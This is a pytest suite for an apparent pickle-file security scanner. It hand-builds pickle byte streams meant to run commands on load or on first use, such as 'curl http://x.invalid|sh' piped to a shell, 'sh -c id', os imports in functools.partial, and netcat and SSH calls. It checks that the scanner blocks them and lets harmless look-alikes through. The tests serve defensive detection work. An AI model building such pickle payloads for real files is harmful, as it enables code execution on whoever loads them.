"""What an attacker writes beside a deed is no evidence for it: neighbours, states, bytes, kin."""

import pytest

from tests.builders.models import assert_blocked, weighed
from tests.builders.pickles import pickle_of, text
from weighbridge.policy.verdict import EvalOutcome


def named(name: str, module: str = "lab.core") -> bytes:
    return text(module) + text(name) + b"\x93"


def octets(data: bytes) -> bytes:
    return b"C" + bytes([len(data)]) + data


def call(name: str, *given: bytes, module: str = "lab.core") -> bytes:
    return named(name, module) + b"(" + b"".join(given) + b"tR"


def new(name: str, *given: bytes, module: str = "lab.core") -> bytes:
    """An instance, its arguments handed to `__new__`."""
    return named(name, module) + b"(" + b"".join(given) + b"t\x81"


def latin(value: str) -> bytes:
    """Bytes, as protocols 0 to 2 carry them."""
    return call("encode", text(value), text("latin1"), module="_codecs")


def dict_of(key: str, value: bytes) -> bytes:
    return b"}" + text(key) + value + b"s"


NEIGHBOUR = new("Message")
ORDER = text("reboot")
DATA = octets(b"\xff\xfe\xff\xff")
DEEDS = {
    "a file opened by __new__": new("AlignmentFile", text("/home/inert/.bashrc"), text("wb")),
    "a folder opened by __new__": new("Environment", text("/home/inert/data")),
    "a machine asked by a class": call("Transport", text("host.invalid")),
    "a machine and its port": call("Link", text("inert:4444")),
    "a program by its class": call("Chrome", text("inert")),
    "a camera by its number": call("VideoCapture", b"K\x00"),
    "processes by their number": call("Pool", b"J\xa0\x86\x01\x00"),
    "settings that load a library": call("Producer", dict_of("plugin.library.paths", text("inert"))),
    "settings of a client": call("Thing", dict_of("host", text("inert"))),
    "an entry point, called like its module": call("main", text("install"), text("inert"), module="lab.cli.main"),
    "an entry point with a list": call("cli", b"](" + text("install") + text("inert") + b"e", module="lab.cli"),
    "a program, called like its module": call("wget", text("inert"), module="lab.tools.wget"),
    "a function, called like its module, with options": call("tool", text("x"), text("inert"), module="lab.tool"),
    "a deed by a number": call("reboot", b"K\x01", module="lab.reboot"),
    "a list that a maker is given": call("_build_wheel", b"](" + text("install") + text("inert") + b"e"),
    "another repository's model": call("LLM", text("inert/repo")),
    "another repository's pipeline": call("TextPipeline", text("task"), text("inert/repo")),
    "a machine that a class reaches": call("Netcat", text("inert"), text("listen")),
    "a shell elsewhere": call("SSH", text("inert")),
    "a command, its result part of a record": new("Message", call("run", ORDER, DATA)),
    "a command with bytes, a class and a state": call("run", ORDER, DATA, named("Other")) + b"}b",
    "a verb with bytes and a state": call("perform", DATA, named("Other")) + b"}b",
    "a command of one word, with bytes": call("PopenSpawn", ORDER, DATA),
    "a command as bytes": call("make_pipe", octets(b"sh -c id")),
    "a command as bytes that end as no text": call("PopenSpawn", octets(b"reboot #\xff\xff")),
    "a command as Latin-1": call("make_pipe", latin("curl http://x.invalid|sh")),
    "a command for a task of some kind": call("ShellTask", ORDER),
    "a command among counts": call("make_thing", dict_of("curl http://x.invalid|sh", b"K\x01")),
    "a shell beside a type": new("Run", call("dtype", text("x"), module="numpy"), text("sh")),
}


@pytest.mark.parametrize("deed", DEEDS)
def test_neighbours_speak_for_no_deed(deed):
    """Another instance of the package stands before it and behind it."""
    data = pickle_of("PROTO 4", b"](", NEIGHBOUR, DEEDS[deed], NEIGHBOUR, b"e", "STOP")

    assert_blocked(weighed(data))


HONEST = {
    "a word of an enum": call("EvalMethod", text("python")),
    "a record's sentence": new("Term", text("C(x):y | z")),
    "a collection of words": call("FrozenDict", dict_of("key", text("word"))),
    "counts of words": call("Freq", dict_of("sh", b"K\x02")),
    "a number": call("Level", b"K\x02"),
    "bytes given back": call("_rebuild_mol", DATA),
}


@pytest.mark.parametrize("form", HONEST)
def test_what_packages_rebuild_passes(form):
    """The nearest honest form of each."""
    data = pickle_of("PROTO 4", b"](", NEIGHBOUR, HONEST[form], NEIGHBOUR, b"e", "STOP")

    assert weighed(data).eval_outcome is EvalOutcome.ALLOWED


def path_method(method: str) -> bytes:
    path = call("PosixPath", text("inert"), module="pathlib")
    return call("getattr", path, text(method), module="builtins")


def cache_method(method: str) -> bytes:
    memory = new("Memory", module="joblib.memory") + dict_of("location", text("inert")) + b"b"
    return call("getattr", memory, text(method), module="builtins")


def partial(function: bytes, *given: bytes) -> bytes:
    """As functools pickles it: the function alone, then all of it as state."""
    held = call("partial", function, module="functools")
    return held + b"(" + function + b"(" + b"".join(given) + b"t}Ntb"


HELD = {
    "a path's unlink": path_method("unlink"),
    "a cache's clear": cache_method("clear"),
    "a command in a partial": partial(named("run"), ORDER),
    "a command in a partial's arguments": call("partial", named("run"), ORDER, module="functools"),
    "code in a partial": partial(named("apply"), text("__import__('os')")),
}
PLACES = {
    "a value": lambda held: dict_of("a", held),
    "a tokenizer": lambda held: (
        new("TfidfVectorizer", module="sklearn.feature_extraction.text") + dict_of("tokenizer", held) + b"b"
    ),
    "a hook": lambda held: new("Linear", module="torch.nn.modules.linear") + dict_of("_forward_hooks", held) + b"b",
    "a factory": lambda held: call("defaultdict", held, module="collections"),
    "a scorer": lambda held: new("_Scorer", module="sklearn.metrics._scorer") + dict_of("_score_func", held) + b"b",
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("held", HELD)
def test_a_deed_ready_to_be_called_blocks_wherever_it_lies(held, place):
    """Nothing calls it while it is loaded; the first user does."""
    assert_blocked(weighed(pickle_of("PROTO 4", PLACES[place](HELD[held]), "STOP")))


def test_a_flood_of_states_for_one_object_ends_soon():
    """No object is given state a hundred thousand times: each costs as much as a call does."""
    data = pickle_of("PROTO 4", NEIGHBOUR, b"}b" * 30_000, "STOP")

    assert_blocked(weighed(data, opcodes=1_000_000))
    assert "FILE-102" in {found.threat.code for found in weighed(data, opcodes=1_000_000).violations}
